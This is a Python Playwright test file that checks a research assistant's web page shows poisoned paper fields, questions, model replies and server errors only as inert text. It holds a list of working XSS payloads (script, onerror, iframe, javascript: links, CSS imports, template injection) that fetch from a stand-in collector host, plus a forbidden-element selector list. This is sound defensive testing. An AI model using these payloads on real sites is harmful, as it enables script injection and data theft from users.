"""Markup in papers, in answers, in questions and in errors: it is text everywhere on the page."""

from __future__ import annotations

import json
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import BrowserContext, Page, expect

from assistant import Assistant
from tests.browser.conftest import Seen, ask, watch
from tests.llm_servers.replies import shown
from tests.llm_servers.scripted import KEY, ScriptedServer, scripted
from tests.llm_servers.steps import Says, Status
from tests.running_page import RunningPage, page_over

pytestmark = pytest.mark.slow

QUESTION = "What does the zebrafish study measure?"
FACT = "The zebrafish study measures the speed of its swimming."
PAYLOADS = [
    "<script>window.pwned=1;fetch('{url}')</script>",
    "<img src={url} onerror=window.pwned=1>",
    "<img src=x onerror=\"window.pwned=1;fetch('{url}')\">",
    "<img srcset='{url} 1x'>",
    "<svg onload=window.pwned=1><image href={url}></image></svg>",
    "<svg><script href={url}></script></svg>",
    "<details open ontoggle=window.pwned=1>more</details>",
    "<iframe src={url}></iframe>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<object data={url}></object><embed src={url}>",
    "<video src={url} autoplay onerror=window.pwned=1></video><audio src={url} autoplay></audio>",
    "<style>@import '{url}';body{{background:url({url})}}</style>",
    "<div style='background:url({url})'>look</div>",
    "<link rel=stylesheet href={url}><link rel=prefetch href={url}>",
    "<meta http-equiv=refresh content='0;url={url}'>",
    "<base href={url}>",
    "<form action={url}><input autofocus onfocus=window.pwned=1><button>Go on</button></form>",
    '<a href="javascript:window.pwned=1">see</a> [see](javascript:window.pwned=1)',
    "![chart]({url}) [chart]: {url}",
    "<a href={url} ping={url}>here</a> [here]({url})",
    "</script></textarea></style><script>window.pwned=1</script>{{{{constructor.constructor('window.pwned=1')()}}}}",
]
FORBIDDEN = (
    "img, picture, iframe, object, embed, video, audio, style, link, meta, base, script, "
    "form[action], [onerror], [onload], [ontoggle], [onfocus], [style*='url(']"
)


@pytest.fixture(scope="module")
def collector() -> Iterator[ScriptedServer]:
    """A host elsewhere, which is to hear nothing."""
    with scripted() as server:
        yield server


@pytest.fixture(scope="module")
def payloads(collector: ScriptedServer) -> list[str]:
    return [payload.format(url=f"{collector.url}/{n}") for n, payload in enumerate(PAYLOADS)]


@pytest.fixture(scope="module")
def page_home(tmp_path_factory: pytest.TempPathFactory, payloads: list[str]) -> Path:
    """A library whose papers are poisoned in every field."""
    home = tmp_path_factory.mktemp("poisoned-home")
    rows = [
        {
            "id": f"paper-{n}",
            "title": f"Zebrafish {n} {payload}",
            "abstract": f"{FACT} In part {n} it is found that {payload} swims. It ends here.",
            "authors": [payload, "Ann Lee"],
            "venue": payload,
            "keywords": [payload, "fish"],
            "year": 2020,
            "url": "javascript:window.pwned=1" if n % 2 else payload,
        }
        for n, payload in enumerate(payloads)
    ]
    file = home / "poisoned.jsonl"
    file.write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")
    with Assistant.open(home=home, create=True) as assistant:
        assert len(assistant.ingest(str(file)).added) == len(PAYLOADS)
    return home


@pytest.fixture(scope="module")
def running_page(own_page: RunningPage) -> RunningPage:
    return own_page


def assert_harmless(page: Page, collector: ScriptedServer) -> None:
    """Nothing ran, nothing was asked of elsewhere, and no markup came of any text."""
    assert page.evaluate("window.pwned") is None
    assert page.locator(".part").locator(FORBIDDEN).count() == 0
    links = page.locator(".part a[href]").evaluate_all("all => all.map(a => a.href)")
    for link in links:
        assert link.startswith((page.url, "https://doi.org/", "https://arxiv.org/", "blob:")), link
    assert collector.lists == 0
    assert collector.requests == []


def opened(context: BrowserContext, url: str, seen: Seen) -> Page:
    page = context.new_page()
    # Sentences full of markup take long to check.
    page.set_default_timeout(120_000)
    page.on("dialog", lambda dialog: seen.page_errors.append(f"dialog: {dialog.message}"))
    watch(page, url, seen)
    page.goto(url)
    page.wait_for_selector("#conversation .part > :visible")
    page.wait_for_selector("#question textarea:enabled")
    return page


def test_papers_are_text_on_every_tab(
    context: BrowserContext, page_url: str, seen: Seen, collector: ScriptedServer
) -> None:
    page = opened(context, page_url, seen)
    ask(page, QUESTION)
    expect(page.locator("#conversation")).to_contain_text("measures the speed of its swimming")
    cites = page.locator("#conversation .cite")
    for n in range(min(4, cites.count())):
        cites.nth(n).click()
    expect(page.locator(".evidence .paper-card").first).to_contain_text("Zebrafish")
    assert_harmless(page, collector)
    for tab in ("Library", "Map", "Search"):
        page.get_by_role("tab", name=tab, exact=True).click()
        page.wait_for_timeout(1500)
        if tab == "Search":
            page.locator("#search input").first.fill("zebrafish")
            page.keyboard.press("Enter")
            expect(page.locator("#search")).to_contain_text("<img src=")
        if tab == "Library":
            page.locator("#library-table").get_by_text("Zebrafish 1 <img").first.click()
            expect(page.locator("#tabs")).to_contain_text("In part 1 it is found that <img src=")
        assert_harmless(page, collector)


def test_every_payload_survives_as_a_question_and_as_text_only(
    context: BrowserContext,
    page_url: str,
    seen: Seen,
    collector: ScriptedServer,
    payloads: list[str],
) -> None:
    page = opened(context, page_url, seen)
    for payload in payloads[:3] + payloads[-1:]:
        ask(page, f"{QUESTION} {payload}")
        expect(page.locator("#conversation")).to_contain_text(payload)
    assert_harmless(page, collector)
    # The list of saved chats names them by what was asked.
    page.reload()
    page.wait_for_selector("#conversation article.turn")
    assert_harmless(page, collector)


def test_what_a_model_writes_is_text(
    page_home: Path,
    tmp_path: Path,
    context: BrowserContext,
    seen: Seen,
    collector: ScriptedServer,
    payloads: list[str],
) -> None:
    def obeys(request: dict[str, Any]) -> Says:
        label = next(label for label, text in shown(request).items() if "speed" in text)
        thirds = (payloads[start : start + 3] for start in range(0, len(payloads), 3))
        return Says(" ".join(f"It swims {' '.join(some)} fast. [{label}]" for some in thirds))

    home = tmp_path / "home-of-model"
    shutil.copytree(page_home, home)
    with scripted([obeys], otherwise=Status(500, json.dumps({"error": payloads[2]}))) as llm:
        variables = {
            "ASSISTANT_LLM": "openai:<img src=x onerror=window.pwned=1>",
            "ASSISTANT_LLM_BASE_URL": llm.url,
            "ASSISTANT_LLM_API_KEY": KEY,
            "ASSISTANT_UNSUPPORTED": "flag",
            "ASSISTANT_MAX_SENTENCES": "20",
        }
        with page_over(home, environment=variables) as running:
            page = opened(context, running.url, seen)
            ask(page, QUESTION)
            expect(page.locator("#conversation")).to_contain_text(
                "onerror=window.pwned=1", timeout=120_000
            )
            assert_harmless(page, collector)
            # What its server says when it fails is not markup either.
            ask(page, QUESTION)
            assert_harmless(page, collector)
            page.close()


def test_markup_that_got_in_all_the_same_would_do_nothing(
    context: BrowserContext, page_url: str, seen: Seen, collector: ScriptedServer
) -> None:
    """The second wall: the policy holds even where a text became markup."""
    page = opened(context, page_url, seen)
    page.evaluate(
        """url => {
          const box = document.createElement("div");
          document.body.append(box);
          box.innerHTML = `<img src=${url} onerror="window.pwned=1"><iframe src=${url}></iframe>
            <object data=${url}></object><video src=${url} autoplay></video>
            <svg><image href=${url}></image></svg><a id=leak ping=${url} href="#x">x</a>
            <div style="background:url(${url})">x</div><style>@import "${url}";</style>
            <form action=${url}><button id=send>x</button></form>
            <button id=inline onclick="window.pwned=1">x</button>`;
          const script = document.createElement("script");
          script.textContent = "window.pwned = 1";
          document.body.append(script);
          box.querySelector("#leak").click();
          box.querySelector("#inline").click();
          box.querySelector("#send").click();
          fetch(url, {mode: "no-cors"}).catch(() => {});
          navigator.sendBeacon(url, "x");
        }""",
        f"{collector.url}/second",
    )
    page.wait_for_timeout(1500)
    # The browser's own report lists what it was stopped from asking; nothing left the machine.
    seen.outside.clear()
    assert page.evaluate("window.pwned") is None
    assert collector.lists == 0
    assert collector.requests == []
